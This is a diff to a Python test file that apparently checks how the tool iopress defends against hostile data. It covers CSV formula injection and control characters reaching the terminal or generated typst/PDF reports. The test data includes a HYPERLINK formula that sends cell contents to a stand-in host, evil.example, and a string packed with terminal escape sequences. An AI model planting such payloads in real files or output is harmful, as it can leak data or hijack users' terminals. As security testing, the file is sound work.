@@ -1,19 +1,27 @@
 """What iopress writes from hostile data (issue 32): CSV cells a spreadsheet would run as
-formulas, and control characters printed to the terminal."""
+formulas, and control characters printed to the terminal or put into a document."""
 
 from __future__ import annotations
 
 import ast
+import contextlib
 import csv
+import io
 import re
 import shutil
 from pathlib import Path
 
 import polars as pl
+import pytest
 
+from pipeline import console
 from pipeline.build import prepare, write_data
+from pipeline.console import print_error
 from pipeline.csvfile import defused
-from tests.conftest import FS840
+from pipeline.dataset import intervals_path
+from pipeline.errors import InputError
+from tests.cli import iopress
+from tests.conftest import DATA, FS840, pdf_text
 
 ROOT = Path(__file__).resolve().parents[1]
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
@@ -80,3 +88,57 @@ def test_every_csv_writer_goes_through_csvfile() -> None:
             if isinstance(node, ast.Attribute) and node.attr in WRITERS:
                 found.append(f"{path.relative_to(ROOT)}:{node.lineno}: {node.attr}")
     assert found == []
+
+
+# --- control characters on the terminal ----------------------------------------------------
+
+HOSTILE_NAME = "s\x00\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil"
+RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+def test_a_message_shows_control_characters_written_out() -> None:
+    """Every message goes through the console, which writes out what a terminal would act
+    on (an error listing a fio hostname printed ESC, OSC and NUL raw)."""
+    err = io.StringIO()
+    with contextlib.redirect_stderr(err):
+        print_error(InputError(Path(f"raw/{HOSTILE_NAME}.json"), "hosts", HOSTILE_NAME, "x"))
+        console.err_console.print(f"note: {HOSTILE_NAME}", markup=False)
+    shown = err.getvalue()
+    assert RAW_CONTROL.findall(shown) == []
+    assert "s\\x00\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202eevil" in shown
+    assert shown.count("\n") == 3  # the hint's line break is kept
+
+
+@pytest.fixture()
+def hostile_datasets(tmp_path: Path) -> tuple[Path, Path]:
+    """Two datasets of one fio run, the second's setup named with control characters
+    (a dataset is anyone's Parquet file)."""
+    old = tmp_path / "old.parquet"
+    ran = iopress("ingest", DATA / "fio" / "jsonplus.json", "-o", old, cwd=tmp_path)
+    assert ran.returncode == 0, ran
+    new = tmp_path / "new.parquet"
+    for source, target in ((old, new), (intervals_path(old), intervals_path(new))):
+        frame = pl.read_parquet(source).with_columns(pl.lit(HOSTILE_NAME).alias("setup"))
+        frame.write_parquet(target, metadata=pl.read_parquet_metadata(source))
+    return old, new
+
+
+def test_compare_prints_a_setup_name_written_out(hostile_datasets: tuple[Path, Path]) -> None:
+    old, new = hostile_datasets
+    for extra in ([], ["--new-setup", "x"]):
+        ran = iopress("compare", old, new, *extra, cwd=old.parent)
+        assert RAW_CONTROL.findall(ran.stdout + ran.stderr) == [], ran
+        assert "s\\x00\\x1b]0;owned" in ran.stdout + ran.stderr, ran
+
+
+def test_compare_documents_show_a_setup_name_written_out(
+    hostile_datasets: tuple[Path, Path],
+) -> None:
+    """The NUL went into the typst source, which typst refused as a glyph no font has
+    (reported as a bug of iopress)."""
+    old, new = hostile_datasets
+    out = old.parent / "out"
+    ran = iopress("compare", old, new, "-o", out, cwd=old.parent)
+    assert ran.returncode == 0, ran
+    assert "s\\\\x00\\\\x1b]0;owned" in (out / "compare.en.typ").read_text(encoding="utf-8")
+    assert "s\\x00\\x1b]0;owned" in pdf_text(out / "compare.en.pdf").replace("\n", "")
